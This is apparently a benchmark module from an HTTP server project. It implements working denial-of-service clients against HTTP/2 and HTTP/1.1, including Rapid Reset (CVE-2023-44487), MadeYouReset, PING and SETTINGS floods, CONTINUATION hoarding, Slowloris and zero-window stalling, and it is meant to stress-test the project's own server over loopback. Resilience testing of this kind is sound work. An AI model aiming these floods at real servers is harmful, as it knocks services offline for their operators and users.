"""The attacks of issue 9, as clients of raw bytes (loopback only, bounded).

python -m lanthorn.bench.attackers NAME --port P [--conns N] [--duration S]

prints `ready` once its connections are set up, then the statistics as one JSON line.
"""

from __future__ import annotations

import argparse
import json
import os
import resource
import sys
from dataclasses import asdict

from lanthorn.bench import h2wire as w
from lanthorn.bench.swarm import Attack, Conn, Swarm
from lanthorn.protocol import h2wire as wire
from lanthorn.protocol.http2 import PREFACE

SMALL, LARGE = "/index.html", "/large.bin"


class PingFlood(Attack):
    """Preface + empty SETTINGS, then 1000 PING frames per send."""

    name, unit, flood = "ping-flood", "PING frames", True
    BATCH = 1000
    CHUNK = w.PING_FRAME * BATCH

    def opening(self, conn: Conn) -> bytes:
        return w.OPENING

    def refill(self, conn: Conn) -> tuple[bytes, int]:
        return self.CHUNK, self.BATCH


class SettingsFlood(PingFlood):
    """Empty SETTINGS frames, 1000 per send (each one the server must acknowledge)."""

    name, unit = "settings-flood", "SETTINGS frames"
    CHUNK = w.EMPTY_SETTINGS * PingFlood.BATCH


class MadeYouReset(Attack):
    """Per stream: a complete GET (END_STREAM) then a DATA frame on the now half-closed
    stream, which the server has to reset itself; 100 streams per send."""

    name, unit, flood = "made-you-reset", "streams", True
    BATCH = 100
    BLOCK = w.request_block(SMALL)

    def opening(self, conn: Conn) -> bytes:
        return w.OPENING

    def after(self, stream_id: int) -> bytes:
        return wire.frame(wire.DATA, 0, stream_id, b"x")

    def refill(self, conn: Conn) -> tuple[bytes, int]:
        first = conn.next_stream
        conn.next_stream += 2 * self.BATCH
        chunk = b"".join(
            w.get(s, self.BLOCK) + self.after(s) for s in range(first, conn.next_stream, 2)
        )
        return chunk, self.BATCH


class RapidReset(MadeYouReset):
    """Per stream: a complete GET then RST_STREAM(CANCEL) (CVE-2023-44487)."""

    name = "rapid-reset"

    def after(self, stream_id: int) -> bytes:
        return wire.rst_stream(stream_id, wire.ErrorCode.CANCEL)


class ContinuationHoard(Attack):
    """HEADERS without END_HEADERS + 63 x 16 KiB CONTINUATION per connection, then hold."""

    name, unit, default_conns, opening_units = "continuation", "header blocks", 300, 1
    FRAMES = 63
    BLOCK = w.padding_block(wire.DEFAULT_FRAME_SIZE * (FRAMES + 1))

    def __init__(self) -> None:
        size = wire.DEFAULT_FRAME_SIZE
        frames = [wire.frame(wire.HEADERS, wire.END_STREAM, 1, self.BLOCK[:size])]
        frames += [wire.frame(wire.CONTINUATION, 0, 1, self.BLOCK[size * i : size * (i + 1)])
                   for i in range(1, self.FRAMES + 1)]  # fmt: skip
        self.payload = w.OPENING + b"".join(frames)

    def opening(self, conn: Conn) -> bytes:
        return self.payload


class IdlePing(Attack):
    """No request, a PING every second: does the idle timeout still fire?"""

    name, unit, tick_s = "idle-ping", "PING frames", 1.0

    def opening(self, conn: Conn) -> bytes:
        return w.OPENING

    def tick(self, conn: Conn) -> tuple[bytes, int]:
        return w.PING_FRAME, 1


class Slowloris(Attack):
    """HTTP/1.1: a request head that never ends, one more byte every 2 s."""

    name, unit, default_conns, tick_s = "slowloris", "bytes trickled", 1000, 2.0

    def opening(self, conn: Conn) -> bytes:
        return f"GET {SMALL} HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: ".encode()

    def tick(self, conn: Conn) -> tuple[bytes, int]:
        return b"a", 1


class ZeroWindow(Attack):
    """SETTINGS_INITIAL_WINDOW_SIZE 0, a GET for a large file, never a WINDOW_UPDATE."""

    name, unit, default_conns, opening_units = "zero-window", "streams", 50, 1
    BLOCK = w.request_block(LARGE)

    def opening(self, conn: Conn) -> bytes:
        return PREFACE + wire.settings({wire.INITIAL_WINDOW_SIZE: 0}) + w.get(1, self.BLOCK)


_ALL = (PingFlood, SettingsFlood, MadeYouReset, RapidReset, ContinuationHoard, IdlePing,
        Slowloris, ZeroWindow)  # fmt: skip
ATTACKS: dict[str, type[Attack]] = {cls.name: cls for cls in _ALL}
HTTP1 = frozenset({"slowloris"})  # the others speak HTTP/2 (h2c, prior knowledge)


def raise_nofile() -> int:
    """RLIMIT_NOFILE up to its hard limit; the new soft limit."""
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if hard == resource.RLIM_INFINITY or hard > soft:
        target = 1 << 20 if hard == resource.RLIM_INFINITY else hard
        resource.setrlimit(resource.RLIMIT_NOFILE, (target, hard))
        return target
    return soft


def main(argv: list[str] | None = None) -> int:
    p = argparse.ArgumentParser(prog="python -m lanthorn.bench.attackers")
    p.add_argument("attack", choices=tuple(ATTACKS))
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--conns", type=int, help="connections (default: the attack's own)")
    p.add_argument("--duration", type=float, default=5.0, help="seconds after setup (5)")
    p.add_argument("--setup", type=float, default=15.0, help="at most this long to set up")
    p.add_argument(
        "--nice", type=int, default=10, help="yield the CPU to the victim's load generator (10)"
    )
    args = p.parse_args(argv)
    os.nice(args.nice)
    attack = ATTACKS[args.attack]()
    conns = args.conns or attack.default_conns
    conns = min(conns, raise_nofile() - 32)

    def ready() -> None:
        print("ready", flush=True)

    stats = Swarm(attack, args.port, conns, args.duration, args.setup).run(ready)
    usage = resource.getrusage(resource.RUSAGE_SELF)
    stats.cpu_s = usage.ru_utime + usage.ru_stime
    print(json.dumps(asdict(stats)), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
